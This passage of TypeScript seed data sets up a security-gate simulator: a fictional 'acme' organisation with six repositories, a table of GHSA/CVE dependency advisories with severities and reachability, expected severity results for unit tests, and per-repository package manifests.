// The simulator's seeded data set: one organisation ("acme") with six repositories on three
// platforms, SCA alerts, packages, licenses, scan schedules, issues and per-repository settings.
// Deterministic: built from the fixed tables below, with no randomness and no clock, so every test
// and every demo run sees the same data. defaultData() builds a fresh copy on each call.
import { createHash } from 'node:crypto';
import type { Issue } from '../src/api/schemas.js';
import { compareEntry, type AdvisoryFacts, type CompareEntry } from './github.js';
import type { Repository, ScaAlert, ScaPackage, Schedule } from './wire.js';

// ---------- identifiers tests use ----------

/** The token the simulator accepts by default. A made-up value for tests and the demo only. */
export const DEMO_TOKEN = { id: 'sim-token-id', secret: 'sim-secret-7f3a9c1e4b2d8a6f' } as const;
export const ORG_ID = 'org_demo';
/** The GitHub App installation of every GitHub repository below. */
export const APP_ID = '4242';
export const GITLAB_INSTALLATION_ID = '7788';

/** The inputs that point the action at a simulator at `apiUrl`, with the demo token, organization and app. */
export function simulatorInputs(apiUrl: string): Record<string, string> {
  return {
    'api-url': apiUrl,
    'api-token-id': DEMO_TOKEN.id,
    'api-token-secret': DEMO_TOKEN.secret,
    'organization-id': ORG_ID,
    'app-id': APP_ID,
  };
}
export const BITBUCKET_INSTALLATION_ID = '3131';

/** acme/webshop: the main repository, with many alerts of every severity. */
export const MAIN_REPO = {
  id: 'repo_webshop',
  name: 'acme/webshop',
  url: 'https://github.com/acme/webshop',
  externalId: '123456789',
} as const;
/** acme/clean-lib: no alerts, risk score 0, a disabled scan schedule; npm packages and a Java client (java/pom.xml). */
export const CLEAN_REPO = {
  id: 'repo_clean',
  name: 'acme/clean-lib',
  url: 'https://github.com/acme/clean-lib',
  externalId: '987654321',
} as const;
/** acme/legacy-api: GitHub, a few alerts, no scan schedule (get-schedule answers 404). */
export const UNSCHEDULED_REPO = {
  id: 'repo_legacy',
  name: 'acme/legacy-api',
  url: 'https://github.com/acme/legacy-api',
  externalId: '555000111',
} as const;
export const GITLAB_REPO = {
  id: 'repo_payments',
  name: 'acme-group/payments-service',
  url: 'https://gitlab.com/acme-group/payments-service',
  externalId: '40917236',
} as const;
export const BITBUCKET_REPO = {
  id: 'repo_mobile',
  name: 'acme/mobile-backend',
  url: 'https://bitbucket.org/acme/mobile-backend',
  externalId: '{3f1c2a9e-6b7d-4e21-9a0f-5c8d7e6b4a13}',
} as const;
/**
 * acme/ops-console: GitHub, high and medium npm alerts and no critical one, so the default
 * threshold passes it; one high alert (KEV_REPO_ADVISORIES.knownExploited) is in CISA's KEV
 * catalog (simulator/kev.ts), so `known-exploited: fail` fails it (the demo's `--kev`).
 */
export const KEV_REPO = {
  id: 'repo_ops',
  name: 'acme/ops-console',
  url: 'https://github.com/acme/ops-console',
  externalId: '246813579',
} as const;
/** The two high alerts of acme/ops-console. */
export const KEV_REPO_ADVISORIES = {
  /** systeminformation 5.3.0, CVE-2021-21315: high (7.8), reachable, in the KEV catalog. */
  knownExploited: 'GHSA-2m8v-572m-ff2v',
  /** node-fetch 2.6.1, CVE-2022-0235: high (8.8), needs review, not in the KEV catalog. */
  notListed: 'GHSA-r683-j2x4-v87g',
} as const;

export const ISSUE_IDS = {
  /** SCA issue (Log4Shell) with reachability analyses, a patch and most optional fields. */
  sca: 'issue_sca_log4shell',
  /** SAST issue with only the required fields. */
  sast: 'issue_sast_sqli',
  /** A secret marked as a false positive. */
  secret: 'issue_secret_fp',
} as const;

/** A few advisories of the main repository, by what tests use them for. */
export const ADVISORIES = {
  /** critical by its word ("CRITICAL", upper case). */
  log4shell: 'GHSA-jfh8-c2jp-5v3q',
  /** critical by score only (severity null, 9.8); reachability only unreachable. */
  minimist: 'GHSA-xvch-5gv4-984h',
  /** critical by score only (severity absent, exactly 9.0). */
  log4jIncompleteFix: 'GHSA-7rjr-3q55-vv33',
  /** word "high" wins over a 9.8 score. */
  loaderUtils: 'GHSA-76p3-8jx3-jpfq',
  /** neither a known word nor a score: unknown. */
  ginInputValidation: 'GHSA-3vp4-m3rf-835h',
  /** isAlerted false (high). */
  nthCheck: 'GHSA-rp65-9cf3-cjxr',
} as const;

/**
 * Alerts of the main repository per severity as the gate computes it (known word first, else the
 * CVSS band of severityScore: >= 9 critical, >= 7 high, >= 4 medium, > 0 low). Tests assert these.
 */
export const MAIN_REPO_SEVERITY_COUNTS = { critical: 5, high: 22, medium: 28, low: 12, unknown: 2 } as const;
/** Of those, alerts with isAlerted false (1 high, 2 medium, 1 low). */
export const MAIN_REPO_NOT_ALERTED = 4;

// ---------- the data set's shape ----------

export interface RepositorySettings {
  cweWhitelist: string[];
  maxPrTimeoutMinutes: number;
  isPrScanningEnabled: boolean;
}

/** A license and the ids of its packages (the packages themselves live in SimData.packages). */
export interface SimLicense {
  id: string;
  name: string;
  packageIds: string[];
}

export interface StoredReferral {
  referralId: string;
  createdAt: string;
  request: Record<string, unknown>;
}

export interface SimData {
  organizationId: string;
  /** Every repository of the organisation, on any platform. */
  repositories: Repository[];
  /** SCA alerts by repository id (an alert itself does not name its repository). */
  alerts: Record<string, ScaAlert[]>;
  packages: ScaPackage[];
  licenses: SimLicense[];
  /** Scan schedules by repository id; a repository without one has no entry. */
  schedules: Record<string, Schedule>;
  issues: Record<string, Issue>;
  referrals: StoredReferral[];
  settings: Record<string, RepositorySettings>;
}

// ---------- advisories ----------

/** r: reachable, n: needs review, u: only unreachable, 0: analysed, nothing found, x: not analysed (null). */
type Reach = 'r' | 'n' | 'u' | '0' | 'x';
interface Flags {
  /** packageIdentifier as plain `name@version` instead of a package URL. */
  plain?: boolean;
  /** isAlerted: false. */
  muted?: boolean;
}

// undefined in the severity or score column means the field is absent from the alert.
type AdvisoryRow = readonly [
  ghsa: string,
  cve: string,
  pkg: string, // ecosystem:name@version as used in acme/webshop
  severity: string | null | undefined,
  score: number | null | undefined,
  fixedIn: string | null,
  webshop: Reach | '-', // '-': not an alert of acme/webshop
  summary: string,
  flags?: Flags,
];

const A = undefined;
// prettier-ignore
const ADVISORY_ROWS: readonly AdvisoryRow[] = [
  // npm, direct dependencies of acme/webshop (package.json)
  ['GHSA-35jh-r3h4-6jhm', 'CVE-2021-23337', 'npm:lodash@4.17.20', 'high', 7.2, '4.17.21', 'r', 'Command Injection in lodash'],
  ['GHSA-29mw-wpgm-hmr9', 'CVE-2020-28500', 'npm:lodash@4.17.20', 'moderate', 5.3, '4.17.21', 'r', 'Regular Expression Denial of Service (ReDoS) in lodash'],
  ['GHSA-rv95-896h-c2vc', 'CVE-2024-29041', 'npm:express@4.17.1', 'medium', 6.1, '4.19.2', 'r', 'Express.js Open Redirect in malformed URLs'],
  ['GHSA-qw6h-vgh9-j6wx', 'CVE-2024-43796', 'npm:express@4.17.1', 'low', 5.0, '4.20.0', 'n', 'express vulnerable to XSS via response.redirect()'],
  ['GHSA-cph5-m8f7-6c5x', 'CVE-2021-3749', 'npm:axios@0.21.0', 'HIGH', 7.5, '0.21.2', 'r', 'axios Inefficient Regular Expression Complexity vulnerability'],
  ['GHSA-4w2v-q235-vp99', 'CVE-2020-28168', 'npm:axios@0.21.0', 'medium', 5.9, '0.21.1', 'n', 'Axios vulnerable to Server-Side Request Forgery'],
  ['GHSA-wf5p-g6vw-rhxx', 'CVE-2023-45857', 'npm:axios@0.21.0', 'moderate', 6.5, '0.28.0', 'r', 'Axios Cross-Site Request Forgery Vulnerability'],
  ['GHSA-qwph-4952-7xr6', 'CVE-2022-23540', 'npm:jsonwebtoken@8.5.1', 'Medium', 6.4, '9.0.0', 'r', 'jsonwebtoken vulnerable to signature validation bypass due to insecure default algorithm in jwt.verify()'],
  ['GHSA-hjrf-2m68-5959', 'CVE-2022-23541', 'npm:jsonwebtoken@8.5.1', 'medium', 5.0, '9.0.0', 'n', "jsonwebtoken's insecure implementation of key retrieval function could lead to Forgeable Public/Private Tokens from RSA to HMAC"],
  ['GHSA-8cf7-32gw-wr33', 'CVE-2022-23539', 'npm:jsonwebtoken@8.5.1', A, 4.0, '9.0.0', 'x', 'jsonwebtoken unrestricted key type could lead to legacy keys usage', { muted: true }],
  ['GHSA-8hfj-j24r-96c4', 'CVE-2022-24785', 'npm:moment@2.29.1', 'high', 7.5, '2.29.2', 'r', "Path Traversal: 'dir/../../filename' in moment.locale"],
  ['GHSA-wc69-rhjr-hc9g', 'CVE-2022-31129', 'npm:moment@2.29.1', 'high', 7.5, '2.29.4', 'n', 'Moment.js vulnerable to Inefficient Regular Expression Complexity'],
  ['GHSA-r683-j2x4-v87g', 'CVE-2022-0235', 'npm:node-fetch@2.6.0', 'high', 8.8, '2.6.7', 'n', 'node-fetch forwards secure headers to untrusted sites'],
  ['GHSA-w7rc-rwvf-8q5r', 'CVE-2020-15168', 'npm:node-fetch@2.6.0', A, 2.6, '2.6.1', '0', "The `size` option isn't honored after following a redirect in node-fetch"],
  ['GHSA-3h5v-q93c-6h6q', 'CVE-2024-37890', 'npm:ws@7.4.5', 'high', 7.5, '7.5.10', 'r', 'ws affected by a DoS when handling a request with many HTTP headers'],
  ['GHSA-6fc8-4gx4-v693', 'CVE-2021-32640', 'npm:ws@7.4.5', 'medium', 5.3, '7.4.6', 'n', 'ReDoS in Sec-Websocket-Protocol header'],
  ['GHSA-776f-qx25-q3cc', 'CVE-2023-0842', 'npm:xml2js@0.4.23', 'medium', 5.3, '0.5.0', 'r', 'xml2js is vulnerable to prototype pollution'],
  ['GHSA-gxr4-xjj5-5px2', 'CVE-2020-11022', 'npm:jquery@3.4.1', 'moderate', 6.9, '3.5.0', 'r', 'Potential XSS vulnerability in jQuery'],
  ['GHSA-jpcq-cgw6-v4j6', 'CVE-2020-11023', 'npm:jquery@3.4.1', 'moderate', 6.9, '3.5.0', 'n', 'Potential XSS vulnerability in jQuery'],
  // npm, transitive (package-lock.json)
  ['GHSA-xvch-5gv4-984h', 'CVE-2021-44906', 'npm:minimist@1.2.5', null, 9.8, '1.2.6', 'u', 'Prototype Pollution in minimist', { plain: true }],
  ['GHSA-9c47-m6qq-7p4h', 'CVE-2022-46175', 'npm:json5@1.0.1', 'high', 7.1, '1.0.2', 'u', 'Prototype Pollution in JSON5 via Parse Method'],
  ['GHSA-93q8-gq69-wqmw', 'CVE-2021-3807', 'npm:ansi-regex@5.0.0', 'high', 7.5, '5.0.1', 'u', 'Inefficient Regular Expression Complexity in chalk/ansi-regex', { plain: true }],
  ['GHSA-ww39-953v-wcq6', 'CVE-2020-28469', 'npm:glob-parent@5.1.1', A, 7.5, '5.1.2', '0', 'glob-parent vulnerable to Regular Expression Denial of Service in enclosure regex'],
  ['GHSA-rp65-9cf3-cjxr', 'CVE-2021-3803', 'npm:nth-check@1.0.2', 'high', 7.5, '2.0.1', 'u', 'Inefficient Regular Expression Complexity in nth-check', { muted: true }],
  ['GHSA-hrpp-h998-j3pp', 'CVE-2022-24999', 'npm:qs@6.7.0', 'high', 7.5, '6.7.3', 'r', 'qs vulnerable to Prototype Pollution'],
  ['GHSA-9wv6-86v2-598j', 'CVE-2024-45296', 'npm:path-to-regexp@0.1.7', 'high', 7.5, '0.1.10', 'r', 'path-to-regexp outputs backtracking regular expressions'],
  ['GHSA-76p3-8jx3-jpfq', 'CVE-2022-37601', 'npm:loader-utils@1.4.0', 'high', 9.8, '1.4.1', '0', 'Prototype pollution in webpack loader-utils'],
  ['GHSA-c2qf-rxjj-qqgw', 'CVE-2022-25883', 'npm:semver@5.7.1', 'moderate', 5.3, '5.7.2', 'u', 'semver vulnerable to Regular Expression Denial of Service', { plain: true }],
  ['GHSA-72xf-g2v4-qvf3', 'CVE-2023-26136', 'npm:tough-cookie@2.5.0', 'moderate', 6.5, '4.1.3', 'n', 'tough-cookie Prototype Pollution vulnerability'],
  ['GHSA-j8xg-fqg3-53r7', 'CVE-2023-26115', 'npm:word-wrap@1.2.3', 'medium', 5.3, '1.2.4', 'u', 'word-wrap vulnerable to Regular Expression Denial of Service', { plain: true }],
  ['GHSA-pw2r-vq6v-hr8c', 'CVE-2022-0536', 'npm:follow-redirects@1.14.7', 'medium', 5.9, '1.14.8', 'r', 'Exposure of Sensitive Information in follow-redirects'],
  ['GHSA-jchw-25xp-jwwc', 'CVE-2023-26159', 'npm:follow-redirects@1.14.7', 'moderate', 6.1, '1.15.4', 'n', 'Follow Redirects improperly handles URLs in the url.parse() function'],
  ['GHSA-cxjh-pqwp-8mfp', 'CVE-2024-28849', 'npm:follow-redirects@1.14.7', 'medium', 6.5, '1.15.6', 'u', "follow-redirects' Proxy-Authorization header kept across hosts"],
  ['GHSA-hj48-42vr-x3v9', 'CVE-2021-23343', 'npm:path-parse@1.0.6', 'medium', 5.3, '1.0.7', '0', 'Regular Expression Denial of Service in path-parse'],
  ['GHSA-952p-6rrq-rcjv', 'CVE-2024-4067', 'npm:micromatch@4.0.5', null, 5.3, '4.0.8', 'n', 'Regular Expression Denial of Service (ReDoS) in micromatch'],
  ['GHSA-7fh5-64p2-3v2j', 'CVE-2023-44270', 'npm:postcss@8.4.14', 'moderate', 5.3, '8.4.31', '0', 'PostCSS line return parsing error', { muted: true }],
  ['GHSA-c2jc-4fpr-4vhg', 'CVE-2023-25166', 'npm:@sideway/formula@3.0.0', 'moderate', 5.3, '3.0.1', 'u', 'formula vulnerable to ReDoS'],
  ['GHSA-m6fv-jmcg-4jfg', 'CVE-2024-43799', 'npm:send@0.17.1', 'low', 5.0, '0.19.0', 'n', 'send vulnerable to template injection that can lead to XSS'],
  ['GHSA-cm22-4g7w-348p', 'CVE-2024-43800', 'npm:serve-static@1.14.1', 'LOW', 5.0, '1.16.0', 'u', 'serve-static vulnerable to template injection that can lead to XSS'],
  ['GHSA-v6h2-p8h4-qcjw', 'CVE-2025-5889', 'npm:brace-expansion@1.1.11', 'low', 3.1, '1.1.12', 'u', 'brace-expansion Regular Expression Denial of Service vulnerability'],
  ['GHSA-pxg6-pf52-xh8x', 'CVE-2024-47764', 'npm:cookie@0.4.0', 'low', null, '0.7.0', 'r', 'cookie accepts cookie name, path, and domain with out of bounds characters'],
  ['GHSA-52f5-9888-hmc6', 'CVE-2025-54798', 'npm:tmp@0.0.33', 'low', 2.5, '0.2.4', 'r', 'tmp allows arbitrary temporary file / directory write via symbolic link `dir` parameter'],
  ['GHSA-76c9-3jph-rj3q', 'CVE-2025-7339', 'npm:on-headers@1.0.2', A, 3.4, '1.1.0', 'n', 'on-headers is vulnerable to http response header manipulation'],
  ['GHSA-mwcw-c2x4-8c55', 'CVE-2024-55565', 'npm:nanoid@3.1.20', 'none', 0, '3.3.8', '0', 'Predictable results in nanoid generation when given non-integer values'],
  // maven (services/catalog/pom.xml)
  ['GHSA-599f-7c49-w659', 'CVE-2022-42889', 'maven:org.apache.commons:commons-text@1.9', 'critical', 9.8, '1.10.0', 'r', 'Arbitrary code execution in Apache Commons Text'],
  ['GHSA-jfh8-c2jp-5v3q', 'CVE-2021-44228', 'maven:org.apache.logging.log4j:log4j-core@2.14.1', 'CRITICAL', 10.0, '2.15.0', 'r', 'Remote code injection in Log4j'],
  ['GHSA-7rjr-3q55-vv33', 'CVE-2021-45046', 'maven:org.apache.logging.log4j:log4j-core@2.14.1', A, 9.0, '2.16.0', 'n', 'Incomplete fix for Apache Log4j vulnerability'],
  ['GHSA-p6xc-xr62-6r2g', 'CVE-2021-45105', 'maven:org.apache.logging.log4j:log4j-core@2.14.1', 'high', 7.5, '2.17.0', 'n', 'Apache Log4j2 does not always protect from infinite recursion in lookup evaluation'],
  ['GHSA-8489-44mv-ggj8', 'CVE-2021-44832', 'maven:org.apache.logging.log4j:log4j-core@2.14.1', 'medium', 6.6, '2.17.1', 'u', 'Improper Input Validation and Injection in Apache Log4j2'],
  ['GHSA-36p3-wjmg-h94x', 'CVE-2022-22965', 'maven:org.springframework:spring-beans@5.3.17', 'critical', 9.8, '5.3.18', 'n', 'Remote Code Execution in Spring Framework'],
  ['GHSA-57j2-w4cx-62h2', 'CVE-2020-36518', 'maven:com.fasterxml.jackson.core:jackson-databind@2.12.6', 'high', 7.5, '2.12.6.1', 'r', 'Deeply nested json in jackson-databind'],
  ['GHSA-jjjh-jjxp-wpff', 'CVE-2022-42003', 'maven:com.fasterxml.jackson.core:jackson-databind@2.12.6', 'high', 7.5, '2.12.7.1', 'n', 'Uncontrolled Resource Consumption in Jackson-databind'],
  ['GHSA-5mg8-w23w-74h3', 'CVE-2020-8908', 'maven:com.google.guava:guava@30.1-jre', 'low', 3.3, '32.0.0-jre', 'r', 'Information Disclosure in Guava'],
  ['GHSA-6v67-2wr5-gvf4', 'CVE-2024-12801', 'maven:ch.qos.logback:logback-core@1.2.3', 'low', 2.4, '1.3.15', 'u', 'Server-Side Request Forgery (SSRF) in SaxEventRecorder of logback-core'],
  // pypi (services/recommender/requirements.txt)
  ['GHSA-q2q7-5pp4-w6pg', 'CVE-2021-33503', 'pypi:urllib3@1.26.4', 'high', 7.5, '1.26.5', 'r', 'Catastrophic backtracking in URL authority parser when passed URL containing many @ characters'],
  ['GHSA-v845-jxx5-vc9f', 'CVE-2023-43804', 'pypi:urllib3@1.26.4', 'moderate', 8.1, '1.26.17', 'r', "Cookie HTTP header isn't stripped on cross-origin redirects"],
  ['GHSA-j8r2-6x86-q33q', 'CVE-2023-32681', 'pypi:requests@2.25.1', 'medium', 6.1, '2.31.0', 'n', 'Unintended leak of Proxy-Authorization header in requests'],
  ['GHSA-g3rq-g295-4j3m', 'CVE-2020-28493', 'pypi:jinja2@2.11.2', 'medium', 5.3, '2.11.3', 'u', 'Regular Expression Denial of Service (ReDoS) in Jinja2'],
  ['GHSA-h5c8-rqwp-cp95', 'CVE-2024-22195', 'pypi:jinja2@2.11.2', 'moderate', 5.4, '3.1.3', 'r', 'Jinja vulnerable to HTML attribute injection when passing user input as keys to xmlattr filter'],
  ['GHSA-3ww4-gg4f-jr7f', 'CVE-2023-50782', 'pypi:cryptography@3.3.2', 'high', 7.5, '42.0.0', 'n', 'Python Cryptography package vulnerable to Bleichenbacher timing oracle attack'],
  ['GHSA-px8h-6qxv-m22q', 'CVE-2023-23934', 'pypi:werkzeug@2.0.2', 'low', 3.5, '2.2.3', 'r', 'Incorrect parsing of nameless cookies leads to __Host- cookies bypass', { muted: true }],
  // golang (services/gateway/go.mod)
  ['GHSA-4374-p667-p6c8', 'CVE-2023-39325', 'golang:golang.org/x/net@v0.7.0', 'high', 7.5, 'v0.17.0', 'r', 'HTTP/2 rapid reset can cause excessive work in net/http'],
  ['GHSA-8c26-wmh5-6g9v', 'CVE-2022-27191', 'golang:golang.org/x/crypto@v0.0.0-20210921155107-089bfa567519', 'high', 7.5, 'v0.0.0-20220314234659-1baeb1ce4c0b', 'u', 'Attackers can cause a crash in SSH servers when the server has been configured by passing a Signer to ServerConfig.AddHostKey'],
  ['GHSA-45x7-px36-x8w8', 'CVE-2023-48795', 'golang:golang.org/x/crypto@v0.0.0-20210921155107-089bfa567519', 'medium', 5.9, 'v0.17.0', 'n', 'Prefix Truncation Attack against ChaCha20-Poly1305 and Encrypt-then-MAC aka Terrapin'],
  ['GHSA-hp87-p4gw-j4gq', 'CVE-2022-28948', 'golang:gopkg.in/yaml.v3@v3.0.0-20210107192922-496545a6307b', 'high', 7.5, 'v3.0.0', 'n', 'gopkg.in/yaml.v3 Denial of Service'],
  ['GHSA-2c4m-59x9-fr2g', 'CVE-2023-29401', 'golang:github.com/gin-gonic/gin@v1.7.7', 'medium', 4.3, 'v1.9.1', 'r', 'Gin Web Framework does not properly sanitize filename parameter of Context.FileAttachment function'],
  ['GHSA-3vp4-m3rf-835h', 'CVE-2023-26125', 'golang:github.com/gin-gonic/gin@v1.7.7', A, A, 'v1.9.0', 'x', 'Improper input validation in github.com/gin-gonic/gin'],
  ['GHSA-w73w-5m7g-f7qc', 'CVE-2020-26160', 'golang:github.com/dgrijalva/jwt-go@v3.2.0+incompatible', 'high', 7.5, null, 'r', 'Authorization bypass in github.com/dgrijalva/jwt-go'],
  ['GHSA-29wx-vh33-7x7r', 'CVE-2024-51744', 'golang:github.com/golang-jwt/jwt/v4@v4.4.2', 'low', 3.1, 'v4.5.1', 'n', 'Bad documentation of error handling in ParseWithClaims can lead to potentially dangerous situations'],
  // only in other repositories
  ['GHSA-2m8v-572m-ff2v', 'CVE-2021-21315', 'npm:systeminformation@5.3.0', 'high', 7.8, '5.3.1', '-', 'Command Injection Vulnerability in systeminformation'],
  ['GHSA-2hrw-hx67-34x6', 'CVE-2022-28346', 'pypi:django@3.2.12', 'critical', 9.8, '3.2.13', '-', 'SQL Injection in Django'],
  ['GHSA-8q59-q68h-6hv4', 'CVE-2020-14343', 'pypi:pyyaml@5.3.1', 'critical', 9.8, '5.4', '-', 'Improper Input Validation in PyYAML'],
];

export type ExpectedSeverity = 'critical' | 'high' | 'medium' | 'low' | 'unknown';

/**
 * The severity the contract gives each advisory above, worked out by hand from its row (a known
 * word first, `moderate` as medium; else the CVSS band of the score: >= 9 critical, >= 7 high,
 * >= 4 medium, > 0 low; else unknown), so that tests take their expectations from the data, not
 * from the code they check. In ADVISORY_ROWS order; a comment says why where the word does not.
 */
// prettier-ignore
export const EXPECTED_SEVERITY: Readonly<Record<string, ExpectedSeverity>> = {
  'GHSA-35jh-r3h4-6jhm': 'high',
  'GHSA-29mw-wpgm-hmr9': 'medium', // moderate
  'GHSA-rv95-896h-c2vc': 'medium',
  'GHSA-qw6h-vgh9-j6wx': 'low', // the word wins over 5.0
  'GHSA-cph5-m8f7-6c5x': 'high', // HIGH
  'GHSA-4w2v-q235-vp99': 'medium',
  'GHSA-wf5p-g6vw-rhxx': 'medium', // moderate
  'GHSA-qwph-4952-7xr6': 'medium', // Medium
  'GHSA-hjrf-2m68-5959': 'medium',
  'GHSA-8cf7-32gw-wr33': 'medium', // no word, 4.0
  'GHSA-8hfj-j24r-96c4': 'high',
  'GHSA-wc69-rhjr-hc9g': 'high',
  'GHSA-r683-j2x4-v87g': 'high',
  'GHSA-w7rc-rwvf-8q5r': 'low', // no word, 2.6
  'GHSA-3h5v-q93c-6h6q': 'high',
  'GHSA-6fc8-4gx4-v693': 'medium',
  'GHSA-776f-qx25-q3cc': 'medium',
  'GHSA-gxr4-xjj5-5px2': 'medium', // moderate
  'GHSA-jpcq-cgw6-v4j6': 'medium', // moderate
  'GHSA-xvch-5gv4-984h': 'critical', // null word, 9.8
  'GHSA-9c47-m6qq-7p4h': 'high',
  'GHSA-93q8-gq69-wqmw': 'high',
  'GHSA-ww39-953v-wcq6': 'high', // no word, 7.5
  'GHSA-rp65-9cf3-cjxr': 'high',
  'GHSA-hrpp-h998-j3pp': 'high',
  'GHSA-9wv6-86v2-598j': 'high',
  'GHSA-76p3-8jx3-jpfq': 'high', // the word wins over 9.8
  'GHSA-c2qf-rxjj-qqgw': 'medium', // moderate
  'GHSA-72xf-g2v4-qvf3': 'medium', // moderate
  'GHSA-j8xg-fqg3-53r7': 'medium',
  'GHSA-pw2r-vq6v-hr8c': 'medium',
  'GHSA-jchw-25xp-jwwc': 'medium', // moderate
  'GHSA-cxjh-pqwp-8mfp': 'medium',
  'GHSA-hj48-42vr-x3v9': 'medium',
  'GHSA-952p-6rrq-rcjv': 'medium', // null word, 5.3
  'GHSA-7fh5-64p2-3v2j': 'medium', // moderate
  'GHSA-c2jc-4fpr-4vhg': 'medium', // moderate
  'GHSA-m6fv-jmcg-4jfg': 'low',
  'GHSA-cm22-4g7w-348p': 'low', // LOW
  'GHSA-v6h2-p8h4-qcjw': 'low',
  'GHSA-pxg6-pf52-xh8x': 'low', // null score
  'GHSA-52f5-9888-hmc6': 'low',
  'GHSA-76c9-3jph-rj3q': 'low', // no word, 3.4
  'GHSA-mwcw-c2x4-8c55': 'unknown', // the word none, score 0
  'GHSA-599f-7c49-w659': 'critical',
  'GHSA-jfh8-c2jp-5v3q': 'critical', // CRITICAL
  'GHSA-7rjr-3q55-vv33': 'critical', // no word, exactly 9.0
  'GHSA-p6xc-xr62-6r2g': 'high',
  'GHSA-8489-44mv-ggj8': 'medium',
  'GHSA-36p3-wjmg-h94x': 'critical',
  'GHSA-57j2-w4cx-62h2': 'high',
  'GHSA-jjjh-jjxp-wpff': 'high',
  'GHSA-5mg8-w23w-74h3': 'low',
  'GHSA-6v67-2wr5-gvf4': 'low',
  'GHSA-q2q7-5pp4-w6pg': 'high',
  'GHSA-v845-jxx5-vc9f': 'medium', // moderate wins over 8.1
  'GHSA-j8r2-6x86-q33q': 'medium',
  'GHSA-g3rq-g295-4j3m': 'medium',
  'GHSA-h5c8-rqwp-cp95': 'medium', // moderate
  'GHSA-3ww4-gg4f-jr7f': 'high',
  'GHSA-px8h-6qxv-m22q': 'low',
  'GHSA-4374-p667-p6c8': 'high',
  'GHSA-8c26-wmh5-6g9v': 'high',
  'GHSA-45x7-px36-x8w8': 'medium',
  'GHSA-hp87-p4gw-j4gq': 'high',
  'GHSA-2c4m-59x9-fr2g': 'medium',
  'GHSA-3vp4-m3rf-835h': 'unknown', // neither word nor score
  'GHSA-w73w-5m7g-f7qc': 'high',
  'GHSA-29wx-vh33-7x7r': 'low',
  'GHSA-2m8v-572m-ff2v': 'high',
  'GHSA-2hrw-hx67-34x6': 'critical',
  'GHSA-8q59-q68h-6hv4': 'critical',
};

/** Alerts of the other repositories: [advisory, package version there, reachability]. */
const OTHER_ALERTS: Record<string, ReadonlyArray<readonly [ghsa: string, version: string, reach: Reach]>> = {
  [UNSCHEDULED_REPO.id]: [
    ['GHSA-35jh-r3h4-6jhm', '4.17.15', 'r'],
    ['GHSA-xvch-5gv4-984h', '1.2.0', 'r'],
    ['GHSA-hrpp-h998-j3pp', '6.5.2', 'n'],
    ['GHSA-c2qf-rxjj-qqgw', '5.7.1', 'u'],
  ],
  [GITLAB_REPO.id]: [
    ['GHSA-599f-7c49-w659', '1.9', 'r'],
    ['GHSA-jjjh-jjxp-wpff', '2.13.2', 'r'],
    ['GHSA-5mg8-w23w-74h3', '31.0.1-jre', 'n'],
  ],
  [BITBUCKET_REPO.id]: [
    ['GHSA-2hrw-hx67-34x6', '3.2.12', 'r'],
    ['GHSA-8q59-q68h-6hv4', '5.3.1', 'n'],
    ['GHSA-j8r2-6x86-q33q', '2.25.1', 'u'],
  ],
  [KEV_REPO.id]: [
    ['GHSA-2m8v-572m-ff2v', '5.3.0', 'r'],
    ['GHSA-r683-j2x4-v87g', '2.6.1', 'n'],
    ['GHSA-6fc8-4gx4-v693', '7.4.4', 'u'],
    ['GHSA-pw2r-vq6v-hr8c', '1.14.5', 'r'],
  ],
};

// ---------- packages ----------

type Ecosystem = 'npm' | 'maven' | 'pypi' | 'golang';
interface PackageRef {
  ecosystem: Ecosystem;
  /** Full name: `@scope/name` (npm), `group:artifact` (maven), module path (golang). */
  name: string;
  version: string;
}

/** Manifest files per repository and ecosystem; npm packages listed in DIRECT_NPM go to `direct`, others to `transitive`. */
const MANIFESTS: Record<string, Partial<Record<Ecosystem, { direct: string; transitive: string }>>> = {
  [MAIN_REPO.id]: {
    npm: { direct: 'package.json', transitive: 'package-lock.json' },
    maven: { direct: 'services/catalog/pom.xml', transitive: 'services/catalog/pom.xml' },
    pypi: { direct: 'services/recommender/requirements.txt', transitive: 'services/recommender/requirements.txt' },
    golang: { direct: 'services/gateway/go.mod', transitive: 'services/gateway/go.mod' },
  },
  [CLEAN_REPO.id]: {
    npm: { direct: 'package.json', transitive: 'package-lock.json' },
    maven: { direct: 'java/pom.xml', transitive: 'java/pom.xml' },
  },
  [UNSCHEDULED_REPO.id]: { npm: { direct: 'package.json', transitive: 'package-lock.json' } },
  [GITLAB_REPO.id]: { maven: { direct: 'pom.xml', transitive: 'pom.xml' } },
  [BITBUCKET_REPO.id]: { pypi: { direct: 'requirements.txt', transitive: 'requirements.txt' } },
  [KEV_REPO.id]: { npm: { direct: 'package.json', transitive: 'package-lock.json' } },
};
const DIRECT_NPM = new Set([
  'lodash',
  'express',
  'axios',
  'jsonwebtoken',
  'moment',
  'node-fetch',
  'ws',
  'xml2js',
  'jquery',
  'react',
  'react-dom',
  'zod',
  'pg',
  'dotenv',
  'uuid',
  'tslib',
  'ffmpeg-static',
  '@acme/design-tokens',
  'systeminformation',
  'pino',
]);

/**
 * Packages with no alert, per repository: `ecosystem:name@version`. New ones go at the end of a
 * repository's list, so the manifest lines of the packages before them stay where they are.
 */
const CLEAN_PACKAGES: Record<string, readonly string[]> = {
  [MAIN_REPO.id]: [
    'npm:react@18.2.0',
    'npm:react-dom@18.2.0',
    'npm:zod@3.22.4',
    'npm:pg@8.11.3',
    'npm:dotenv@16.3.1',
    'npm:uuid@9.0.1',
    'maven:org.slf4j:slf4j-api@1.7.36',
    'maven:org.postgresql:postgresql@42.6.0',
    'pypi:numpy@1.24.4',
    'pypi:pandas@2.0.3',
    'pypi:scikit-learn@1.3.0',
    'pypi:chardet@4.0.0',
    'golang:github.com/prometheus/client_golang@v1.17.0',
    'golang:go.uber.org/zap@v1.26.0',
    // the license policy's cases (LICENSE_FIXTURES)
    'npm:ffmpeg-static@5.2.0',
    'npm:@acme/design-tokens@2.4.0',
    'npm:jszip@3.10.1',
    'maven:org.openjdk.nashorn:nashorn-core@15.4',
    'maven:com.acmesoft:acme-pdf@4.1.2',
    'pypi:orjson@3.9.10',
    'pypi:certifi@2023.7.22',
  ],
  // slf4j-api: the Java client's one dependency, where the demo's bad pull request adds log4j-core.
  [CLEAN_REPO.id]: ['npm:zod@3.23.8', 'npm:tslib@2.6.2', 'maven:org.slf4j:slf4j-api@2.0.9'],
  [UNSCHEDULED_REPO.id]: ['npm:express@4.18.2', 'npm:ffmpeg-static@5.2.0'],
  [GITLAB_REPO.id]: ['maven:org.slf4j:slf4j-api@2.0.9'],
  [BITBUCKET_REPO.id]: ['pypi:gunicorn@21.2.0', 'pypi:certifi@2023.7.22'],
